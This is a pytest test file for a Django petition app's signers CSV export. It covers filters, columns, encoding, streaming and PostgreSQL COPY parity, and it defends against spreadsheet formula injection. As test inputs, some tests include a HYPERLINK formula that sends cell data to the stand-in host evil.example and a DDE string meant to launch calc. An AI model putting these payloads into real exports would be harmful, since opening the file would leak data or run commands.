"""The signers CSV (`manage.py export_signatures` and /admin/petitions/<slug>/export.csv): what it holds and how."""

import csv
import io
from collections.abc import Iterator

import pytest
from django.core.management import CommandError, call_command
from django.db import connection  # noqa: F401 (read by a skipif)
from django.http import StreamingHttpResponse

from signatures import services
from signatures.export import export_bytes, export_rows
from signatures.models import Signature
from tests.support.factories import make_petition, make_roster_entry, make_signature, make_user
from verification.claims import approve_claim, reject_claim

pytestmark = pytest.mark.django_db

HEADER = (
    "full_name,email,affiliation,verification,method,roster_name,role,organisation,comment,"
    "signed_at,confirmed_at,verified_at,version"
)
V = Signature.Verification


@pytest.fixture
def petition(artists):
    """A letter whose affiliation's policy says an address at example.com is membership."""
    artists.email_domains = "example.com"
    artists.domain_policy = True
    artists.save()
    return make_petition(slug="open-letter", affiliations=[artists])


@pytest.fixture
def sign(django_capture_on_commit_callbacks):
    """A signature whose claim (if any) was checked, as the workers would after the commit."""

    def sign(petition, full_name, email, **fields) -> Signature:
        with django_capture_on_commit_callbacks(execute=True):
            signature = make_signature(petition, full_name=full_name, email=email, **fields)
        signature.refresh_from_db()
        return signature

    return sign


@pytest.fixture
def signers(petition, artists, sign):
    """One signature in each state that matters to the export."""
    make_roster_entry(artists, "By Roster", "listed@studio.org")
    make_roster_entry(artists, "Roster Person")  # no address: a claim under this name goes to a moderator
    moderator = make_user("moderator@example.net")
    made = {
        "by domain": sign(petition, "By Domain", "domain@example.com", affiliation=artists),
        "by roster": sign(petition, "By Roster", "listed@studio.org", affiliation=artists),
        "in review": sign(petition, "Roster Person", "review@elsewhere.net", affiliation=artists),
        "unverified": sign(petition, "Not Listed", "nobody@elsewhere.net", affiliation=artists),
        "no claim": sign(petition, "No Claim", "noclaim@elsewhere.net"),
        "unconfirmed": sign(petition, "Unconfirmed", "unconfirmed@example.com", affiliation=artists, confirmed=False),
        "withdrawn": sign(petition, "Withdrawn", "withdrawn@example.com", affiliation=artists),
        "rejected signature": sign(petition, "Spammer", "spam@example.com", affiliation=artists),
        "rejected claim": sign(petition, "Claim Refused", "refused@example.com", affiliation=artists),
    }
    services.withdraw(made["withdrawn"].pk)
    services.reject(made["rejected signature"])
    reject_claim(made["rejected claim"], moderator)
    return made


def exported(petition, *args: str) -> str:
    out = io.StringIO()
    call_command("export_signatures", petition.slug, *args, stdout=out)
    return out.getvalue()


def parsed(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def names(text: str) -> list[str]:
    return [row["full_name"] for row in parsed(text)]


def test_header_row_names_the_columns_in_the_contract_order(petition):
    text = exported(petition)
    assert text.splitlines()[0] == HEADER
    assert list(csv.reader(io.StringIO(text))) == [HEADER.split(",")]


def test_default_export_is_confirmed_and_verified_signers_only(petition, signers):
    assert names(exported(petition)) == ["By Domain", "By Roster"]


def test_needs_review_filter_exports_the_review_queue(petition, signers):
    assert names(exported(petition, "--verification", "needs_review")) == ["Roster Person"]


def test_all_filter_exports_every_confirmed_signer(petition, signers):
    assert names(exported(petition, "--verification", "all")) == [
        "By Domain",
        "By Roster",
        "Roster Person",
        "Not Listed",
        "No Claim",
        "Claim Refused",
    ]


@pytest.mark.parametrize("verification", ["all", "verified", "needs_review", "unverified", "none", "rejected"])
def test_unconfirmed_withdrawn_and_rejected_signatures_are_never_exported(petition, signers, verification):
    text = exported(petition, "--verification", verification)
    for name in ("Unconfirmed", "Withdrawn", "Spammer"):
        assert name not in text


def test_rows_carry_the_claim_its_evidence_and_the_dates(petition, signers):
    by_roster = signers["by roster"]
    rows = {row["full_name"]: row for row in parsed(exported(petition, "--verification", "all"))}
    assert rows["By Roster"] == {
        "full_name": "By Roster",
        "email": "listed@studio.org",
        "affiliation": "sora-alpha-artist",
        "verification": "verified",
        "method": "email",
        "roster_name": "By Roster",
        "role": "",
        "organisation": "",
        "comment": "",
        "signed_at": by_roster.created_at.isoformat(),
        "confirmed_at": by_roster.confirmed_at.isoformat(),
        "verified_at": by_roster.verified_at.isoformat(),
        "version": "1",
    }
    assert (rows["By Domain"]["method"], rows["By Domain"]["roster_name"]) == ("email_domain", "")
    assert (rows["No Claim"]["affiliation"], rows["No Claim"]["verification"], rows["No Claim"]["method"]) == (
        "",
        "none",
        "",
    )
    assert (rows["Claim Refused"]["verification"], rows["Claim Refused"]["method"]) == ("rejected", "moderator")
    assert rows["Not Listed"]["verified_at"] == ""


def test_version_is_the_text_the_signer_saw(petition, sign):
    sign(petition, "Early", "early@example.org")
    petition.body = "A changed text."
    petition.save()
    petition.record_version()
    sign(petition, "Late", "late@example.org")
    rows = parsed(exported(petition, "--verification", "all"))
    assert [(row["full_name"], row["version"]) for row in rows] == [("Early", "1"), ("Late", "2")]


def test_moderator_approval_shows_the_roster_entry_chosen(petition, artists, sign):
    make_roster_entry(artists, "Jane Doe")
    signature = sign(petition, "Jane Doe", "jane@elsewhere.net", affiliation=artists)
    approve_claim(signature, make_user("moderator@example.net"), note="known to the coordinator")
    [row] = parsed(exported(petition))
    assert (row["verification"], row["method"], row["roster_name"]) == ("verified", "moderator", "Jane Doe")


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
@pytest.mark.parametrize("column", ["full_name", "role", "organisation", "comment"])
def test_cells_that_start_like_a_formula_are_neutralised(petition, sign, prefix, column):
    hostile = f'{prefix}HYPERLINK("https://evil.example/?"&A1,"x")'
    fields = {"full_name": "Plain Name", "role": "", "organisation": "", "comment": "", column: hostile}
    sign(petition, fields.pop("full_name"), "hostile@example.org", **fields)
    [row] = parsed(exported(petition, "--verification", "all"))
    assert row[column] == "'" + hostile


def test_email_and_roster_name_are_neutralised_too(petition, artists, sign):
    make_roster_entry(artists, "=cmd|' /C calc'!A0", "-listed@studio.org")
    sign(petition, "Jane Doe", "-listed@studio.org", affiliation=artists)
    [row] = parsed(exported(petition))
    assert (row["email"], row["roster_name"]) == ("'-listed@studio.org", "'=cmd|' /C calc'!A0")


def test_formula_characters_inside_a_cell_are_left_alone(petition, sign):
    sign(petition, "Ann Smith-Jones", "ann@example.org", comment="1+1=2 @ home", organisation="A & B - C")
    [row] = parsed(exported(petition, "--verification", "all"))
    assert (row["full_name"], row["comment"], row["organisation"]) == ("Ann Smith-Jones", "1+1=2 @ home", "A & B - C")


def test_commas_quotes_newlines_and_non_ascii_survive_a_round_trip(petition, sign):
    fields = {
        "role": 'Lead "character" artist',
        "organisation": "Núñez & Søn, 山田スタジオ",
        "comment": 'First line,\nsecond line;\r\nthird "quoted" line ✓',
    }
    sign(petition, 'Doe, "Jane" Ñ', "jane@example.org", **fields)
    [row] = parsed(exported(petition, "--verification", "all"))
    assert row["full_name"] == 'Doe, "Jane" Ñ'
    for column, value in fields.items():
        assert row[column] == value


def test_output_file_holds_the_same_bytes_as_standard_output(petition, signers, tmp_path):
    target = tmp_path / "signers.csv"
    call_command("export_signatures", petition.slug, "--verification", "all", "--output", str(target))
    assert target.read_bytes() == exported(petition, "--verification", "all").encode("utf-8")
    assert target.read_bytes().startswith(HEADER.encode() + b"\r\n")


def test_standard_output_of_the_process_gets_the_same_utf8_bytes_as_the_file(petition, sign, tmp_path, capsysbinary):
    sign(petition, "Núñez 山田", "nunez@example.org", comment="=1+1")
    target = tmp_path / "signers.csv"
    call_command("export_signatures", petition.slug, "--verification", "all", "--output", str(target))
    call_command("export_signatures", petition.slug, "--verification", "all")
    assert capsysbinary.readouterr().out == target.read_bytes()
    assert "Núñez 山田".encode() in target.read_bytes()


def test_unwritable_output_is_an_error_and_leaves_no_partial_file(petition, tmp_path):
    target = tmp_path / "missing-folder" / "signers.csv"
    with pytest.raises(CommandError, match="Cannot write"):
        call_command("export_signatures", petition.slug, "--output", str(target))
    assert list(tmp_path.iterdir()) == []


def test_unknown_verification_filter_is_an_error(petition, tmp_path):
    target = tmp_path / "signers.csv"
    with pytest.raises(CommandError, match="Unknown verification filter"):
        call_command("export_signatures", petition.slug, "--verification", "maybe", "--output", str(target))
    assert not target.exists()


def test_unknown_petition_is_an_error():
    with pytest.raises(CommandError, match="No petition"):
        call_command("export_signatures", "no-such-letter", stdout=io.StringIO())


def test_export_rows_is_a_lazy_iterator(petition, signers):
    rows = export_rows(petition)
    assert isinstance(rows, Iterator)
    assert next(rows).rstrip("\r\n") == HEADER
    assert len(list(rows)) == 2


def test_export_rows_refuses_an_unknown_filter(petition):
    with pytest.raises(ValueError, match="maybe"):
        list(export_rows(petition, "maybe"))


def test_admin_export_streams_the_same_csv_as_the_command(client, petition, signers):
    client.force_login(make_user("root@example.net", superuser=True))
    response = client.get(f"/admin/petitions/{petition.slug}/export.csv")
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    assert b"".join(response.streaming_content).decode() == exported(petition)


def test_admin_export_takes_the_verification_filter(client, petition, signers):
    client.force_login(make_user("root@example.net", superuser=True))
    response = client.get(f"/admin/petitions/{petition.slug}/export.csv?verification=needs_review")
    assert names(b"".join(response.streaming_content).decode()) == ["Roster Person"]
    assert client.get(f"/admin/petitions/{petition.slug}/export.csv?verification=maybe").status_code == 400


HOSTILE = ["=HYPERLINK(\"x\")", "+1", "-2", "@sum", "\tTab", "\rReturn", "\nNewline first", 'Say "hi"', '"', '""',
           "a,b", "two\nlines", "cr\r\nlf", "trailing\r", "Zoë 山田 ﷺ 🙂", "'already", " spaced ", "", "plain", "\\.",
           "\\N", "NULL", "semi;colon", "tab\tinside"]  # fmt: skip


@pytest.fixture
def hostile_signers(petition, artists, signers):
    """Signers whose every free-text cell is hostile, claimed or not, with dates whose microseconds are zero,
    round (.120000) or tiny (.000001): isoformat() writes each differently."""
    from datetime import timedelta

    from django.utils import timezone

    from verification.models import Evidence

    make_roster_entry(artists, '=cmd|" /C calc"!A0, "Núñez"\nsecond line', "")
    second = timezone.now().replace(microsecond=0)
    for n, text in enumerate(HOSTILE):
        signature = make_signature(
            petition, full_name=f"{text} {n}", email=f"hostile{n}@example.net", role=text, organisation=text,
            comment=text, affiliation=artists if n % 2 else None,
        )  # fmt: skip
        moment = second - timedelta(seconds=n, microseconds=(0, 120_000, 1)[n % 3])
        Signature.objects.filter(pk=signature.pk).update(created_at=moment, confirmed_at=moment)
    signature = Signature.objects.filter(email="hostile1@example.net").get()
    Evidence.objects.filter(signature=signature).update(roster_name=HOSTILE[0] + "\n" + HOSTILE[-1])
    return signers


@pytest.mark.skipif("connection.vendor != 'postgresql'", reason="the COPY path is PostgreSQL's")
@pytest.mark.parametrize("verification", ["all", "verified", "unverified", "needs_review", "none", "rejected"])
def test_the_database_and_python_write_the_same_bytes_for_the_same_rows(petition, hostile_signers, verification):
    """COPY (PostgreSQL) and Python's csv module (the embedded default) must never drift: same bytes, same lines."""
    from signatures.export import copy_blocks, copy_rows, export_bytes, export_rows, python_blocks, python_lines

    by_python = b"".join(python_blocks(python_lines(petition, verification)))
    by_database = b"".join(copy_blocks(copy_rows(petition, verification)))
    assert by_database.count(b"\r\n") > 1
    assert by_database == by_python
    assert b"".join(export_bytes(petition, verification)) == by_python
    assert list(export_rows(petition, verification)) == list(python_lines(petition, verification))


@pytest.mark.skipif("connection.vendor != 'postgresql'", reason="the COPY path is PostgreSQL's")
def test_the_hostile_rows_read_back_as_they_were_typed_but_defused(petition, hostile_signers):
    rows = parsed(b"".join(export_bytes(petition, "all")).decode("utf-8"))
    by_email = {row["email"]: row for row in rows}
    for n, text in enumerate(HOSTILE):
        row = by_email[f"hostile{n}@example.net"]
        expected = "'" + text if text.startswith(("=", "+", "-", "@", "\t", "\r")) else text
        assert (row["role"], row["organisation"], row["comment"]) == (expected, expected, expected)


@pytest.mark.skipif("connection.vendor != 'postgresql'", reason="the COPY path is PostgreSQL's")
@pytest.mark.django_db(transaction=True)
def test_an_export_abandoned_half_way_leaves_the_connection_usable(artists):
    """A client that hangs up mid-download closes the generator: the COPY still streaming is cancelled and
    drained, and the next query on the connection works (autocommit, as in a request)."""
    from signatures.export import copy_rows
    from tests.support.bulk import insert_signatures

    petition = make_petition(slug="big-letter", affiliations=[artists])
    insert_signatures(petition, 50_000)
    rows = copy_rows(petition, "all")
    assert bytes(next(rows)).startswith(b"full_name,")
    next(rows)
    assert connection.connection.info.transaction_status == 1  # ACTIVE: the server is still sending
    rows.close()
    assert Signature.objects.filter(petition=petition).count() == 50_000
    assert len(list(export_rows(petition, "all"))) == 50_001


def test_export_bytes_is_the_export_in_blocks_that_end_at_a_line(petition, hostile_signers, monkeypatch):
    """Blocks end where a row ends, so a block can be decoded on its own (the command's text output does)."""
    from signatures import export

    monkeypatch.setattr(export, "BLOCK_SIZE", 200)
    blocks = list(export.export_bytes(petition, "all"))
    assert len(blocks) > 3
    assert b"".join(blocks).decode("utf-8") == "".join(export.export_rows(petition, "all"))
    for block in blocks:
        assert block.endswith(b"\r\n")
        block.decode("utf-8")
